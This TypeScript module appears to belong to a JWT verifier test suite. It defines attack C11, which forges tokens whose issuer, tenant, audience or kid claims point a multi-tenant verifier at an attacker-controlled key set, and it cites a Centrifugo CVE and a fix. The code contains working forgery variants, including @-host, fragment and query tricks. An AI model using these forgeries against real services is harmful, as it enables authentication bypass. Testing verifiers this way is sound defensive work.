import type { Forgery, TokenAttack } from '../attack.ts';
import { attackerForgery, attackerKey, likelyAlg } from '../attacker-forgery.ts';
import { issuerAnswer } from '../attacker-key-set.ts';
import type { JsonObject } from '../known-token.ts';

/** C11. */
export const keySetOfClaims: TokenAttack = {
  kind: 'token',
  id: 'C11',
  title: 'The address of the key set is made of claims that nobody has verified',
  severity: 'critical',
  cwe: 918,
  source: ['RFC 8725 §3.8', 'RFC 8725 §3.10', 'OpenID Connect Discovery 1.0 §4.3'],
  how: 'A verifier for many tenants may read the issuer, the tenant or the realm out of the token, put it into an address, and fetch the key set there. The claims are still unverified at that moment: the attacker writes his own address as the issuer, or a tenant whose text turns the rest of the address into a path or a fragment. His own key set answers, and the signature holds.',
  victims: [{ what: 'Centrifugo < 6.7.0', advisory: 'CVE-2026-32301' }],
  fix: 'Hold a fixed table from issuer to address of its key set. Use a claim only to look up in it, by equality; what is not in it is refused before anything is fetched.',
  needs: ['callback'],
  expect: 'refused',
  forge: async (context) => {
    const key = await attackerKey(context, likelyAlg(context));
    const kid = context.good.header['kid'] ?? 'default';
    const { iss } = context.good.payload;
    const trusted = typeof iss === 'string' && URL.canParse(iss) ? new URL(iss) : new URL('https://issuer.example');
    const forgeries: Forgery[] = [];
    for (const [variant, bend] of Object.entries(bends)) {
      const callback = context.callbackUrl?.(variant, (address) => issuerAnswer(key, kid, address)) ?? '';
      const { header = {}, claims = {} } = bend(new URL(callback), trusted);
      forgeries.push(await attackerForgery(context, key, variant, { header, claims, callback }));
    }
    return forgeries;
  },
};

type Bend = (callback: URL, trusted: URL) => { readonly header?: JsonObject; readonly claims?: JsonObject };

/** Members that templates of addresses are filled from. */
const tenantNames = ['tid', 'tenant', 'tenant_id', 'realm', 'org', 'org_id', 'azp', 'client_id', 'ten'];

const bends: Readonly<Record<string, Bend>> = {
  'iss-is-mine': ({ href }) => ({ claims: { iss: href } }),
  'iss-is-mine-with-slash': ({ href }) => ({ claims: { iss: `${href}/` } }),
  'iss-ends-in-a-query': ({ href }) => ({ claims: { iss: `${href}?` } }),
  'iss-ends-in-a-fragment': ({ href }) => ({ claims: { iss: `${href}#` } }),
  'iss-begins-as-the-real-one': ({ host, pathname }, { origin }) => ({
    claims: { iss: `${origin}@${host}${pathname}` },
  }),
  'iss-ends-as-the-real-one': ({ href }, trusted) => ({ claims: { iss: `${href}/${trusted.host}` } }),
  'iss-has-the-real-one-behind': ({ href }, trusted) => ({ claims: { iss: [href, trusted.href.replace(/\/$/, '')] } }),
  'tenant-is-a-host': ({ host, pathname }) => ({ claims: ofTenants(`${host}${pathname}#`) }),
  'tenant-ends-the-host': ({ host, pathname }) => ({ claims: ofTenants(`@${host}${pathname}?`) }),
  'tenant-is-an-address': ({ href }) => ({ claims: ofTenants(href) }),
  'audience-is-an-address': ({ href }) => ({ claims: { aud: href } }),
  'kid-is-an-address': ({ href }) => ({ header: { kid: `${href}#` } }),
  'iss-in-the-header': ({ href }) => ({ header: { iss: href } }),
};

function ofTenants(text: string): JsonObject {
  return Object.fromEntries(tenantNames.map((name) => [name, text]));
}
